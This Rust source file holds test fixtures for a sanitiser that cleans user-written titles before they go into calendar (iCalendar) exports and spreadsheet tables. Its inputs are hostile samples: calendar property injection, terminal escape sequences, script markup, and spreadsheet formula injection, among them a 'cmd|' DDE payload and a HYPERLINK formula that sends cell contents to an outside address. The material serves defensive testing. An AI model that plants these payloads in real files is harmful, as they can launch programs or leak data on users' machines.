//! Words of members, as they may stand in a title, on their way into a calendar or a table.

use crate::{File, file};

const KEPT: &str = "kept";
const CLEANED: &str = "kept without what a calendar cannot hold";
const QUOTED: &str = "kept behind an apostrophe";

pub(crate) fn for_calendars() -> Vec<File> {
    vec![
        file("plain.txt", "Lift to the eye clinic", KEPT, "honest words"),
        file("empty.txt", "", KEPT, "no words"),
        file(
            "a-new-event.txt",
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:You owe me",
            "kept without what a calendar cannot hold",
            "a second event after a line end",
        ),
        file(
            "line-feed.txt",
            "x\nATTENDEE:mailto:mallory@example.org",
            KEPT,
            "a bare line feed before a property",
        ),
        file(
            "carriage-return.txt",
            "x\rATTACH:https://example.org/x",
            CLEANED,
            "a bare carriage return before a property",
        ),
        file(
            "next-line.txt",
            "x\u{85}URL:https://example.org",
            CLEANED,
            "a control character that some take for a line end",
        ),
        file(
            "line-separator.txt",
            "x\u{2028}URL:https://example.org\u{2029}x",
            KEPT,
            "separators that some take for line ends",
        ),
        file("vertical-tab.txt", "x\u{b}URL:x\u{c}URL:y", CLEANED, "other old line ends"),
        file("folded.txt", "x\r\n URL:y", CLEANED, "a line that claims to go on"),
        file("property-marks.txt", "SUMMARY;LANGUAGE=en:x,y;z\\", KEPT, "the marks that part a property"),
        file("backslashes.txt", "\\n \\N \\; \\, \\\\ \\", KEPT, "backslashes that were typed"),
        file("ends-with-a-backslash.txt", "x\\", KEPT, "a backslash where the line ends"),
        file(
            "quotes.txt",
            "\"CN=alice\":^n^'",
            KEPT,
            "quotes and carets, which mean something in parameters",
        ),
        file("an-alarm.txt", "BEGIN:VALARM\nACTION:DISPLAY\nTRIGGER:-PT5M\nEND:VALARM", KEPT, "an alarm"),
        file("html.txt", "<script>alert(1)</script><img src=x onerror=y>", KEPT, "markup"),
        file("nul.txt", "x\0y", CLEANED, "the byte zero"),
        file("escape.txt", "\u{1b}[2J\u{1b}]0;owned\u{7}", CLEANED, "what a terminal obeys"),
        file(
            "bidi.txt",
            "\u{202e}gnihtemos\u{202c} \u{2066}x\u{2069}",
            KEPT,
            "marks that turn the text around",
        ),
        file("invisible.txt", "\u{200b}\u{200d}\u{feff}\u{ad}", KEPT, "marks that nobody sees"),
        file("long-ascii.txt", "x".repeat(300), KEPT, "longer than a line may be"),
        file(
            "long-four-bytes.txt",
            "\u{1f34e}".repeat(90),
            KEPT,
            "letters of four bytes across the end of a line",
        ),
        file(
            "long-three-bytes.txt",
            format!("x{}", "\u{4e16}".repeat(90)),
            KEPT,
            "letters of three bytes across the end of a line",
        ),
        file(
            "combining.txt",
            format!("e{}", "\u{301}".repeat(200)),
            KEPT,
            "accents without end on one letter",
        ),
        file("long-backslashes.txt", "\\".repeat(200), KEPT, "escapes across the end of a line"),
        file("long-line-ends.txt", "\n".repeat(200), KEPT, "line ends across the end of a line"),
        file("no-utf8.txt", [0xc3, 0x28, 0xff, 0xfe], KEPT, "bytes that are no text come as marks of that"),
        file("tab.txt", "x\ty", KEPT, "a tab, which a calendar can hold"),
        file("delete.txt", "x\u{7f}y\u{9b}31m", CLEANED, "the last control characters"),
    ]
}

pub(crate) fn for_tables() -> Vec<File> {
    vec![
        file("plain.txt", "Lift to the eye clinic", KEPT, "honest words"),
        file("empty.txt", "", KEPT, "no words"),
        file("formula.txt", "=1+1", QUOTED, "a formula"),
        file(
            "formula-link.txt",
            "=HYPERLINK(\"https://example.org?\"&A1,\"open\")",
            QUOTED,
            "a formula that tells somebody else what is in the table",
        ),
        file("formula-command.txt", "=cmd|' /C calc'!A0", QUOTED, "a formula that starts a program"),
        file("formula-plus.txt", "+49 170 1234567", QUOTED, "a telephone number that looks like one"),
        file("formula-minus.txt", "-2+3+cmd|' /C calc'!A0", QUOTED, "one that begins with a minus"),
        file("formula-at.txt", "@SUM(A1:A9)", QUOTED, "one that begins with an at"),
        file("formula-after-blank.txt", " =1+1", QUOTED, "after a blank, which spreadsheets pass over"),
        file("formula-after-wide-blank.txt", "\u{a0}\u{3000}=1+1", QUOTED, "after blanks of other scripts"),
        file("formula-after-tab.txt", "\t=1+1", QUOTED, "after a tab"),
        file("formula-after-line-end.txt", "\r\n=1+1", QUOTED, "after a line end"),
        file("formula-after-mark.txt", "\u{feff}=1+1", QUOTED, "after a mark that nobody sees"),
        file(
            "formula-after-joiner.txt",
            "\u{200b}\u{202d}=1+1",
            QUOTED,
            "after other marks that nobody sees",
        ),
        file("formula-after-nul.txt", "\0=1+1", QUOTED, "after the byte zero, which spreadsheets drop"),
        file(
            "formula-full-width.txt",
            "\u{ff1d}1\u{ff0b}1",
            QUOTED,
            "in the wide letters that some spreadsheets read alike",
        ),
        file("formula-in-the-middle.txt", "x=1+1", KEPT, "an equals sign in the middle is none"),
        file("formula-in-a-second-line.txt", "x\n=1+1", KEPT, "nor is one in a second line of a cell"),
        file("tab-first.txt", "\tx", QUOTED, "a tab at the beginning"),
        file("new-cell.txt", "x\",\"=1+1", KEPT, "it ends its cell and begins another"),
        file("new-row.txt", "x\"\r\n\"=1+1\"\r\n", KEPT, "it ends its row and begins another"),
        file("commas.txt", ",,,;;;\t|", KEPT, "everything that parts cells somewhere"),
        file("quotes.txt", "\"\"\"", KEPT, "nothing but quotes"),
        file("carriage-return.txt", "x\ry", KEPT, "a bare carriage return"),
        file("apostrophe.txt", "'=1+1", KEPT, "somebody typed the apostrophe themselves"),
        file(
            "html.txt",
            "</td></table><script>alert(1)</script>",
            KEPT,
            "markup, which the page beside it shows as words",
        ),
        file("html-entities.txt", "&lt;script&gt; &#0; &amp;amp;", KEPT, "markup that is escaped already"),
        file("html-attribute.txt", "\"><img src=x onerror='alert(1)'>", KEPT, "the end of an attribute"),
        file("json.txt", "\"},{\"title\":\"\u{8}\u{c}\\", KEPT, "the end of a value in the list beside it"),
        file("bidi.txt", "\u{202e}gnihtemos", KEPT, "a mark that turns the text around"),
        file("long.txt", "x".repeat(4_000), KEPT, "a cell without end"),
        file("no-utf8.txt", [0xff, 0xfe, b'=', b'1'], KEPT, "bytes that are no text come as marks of that"),
    ]
}
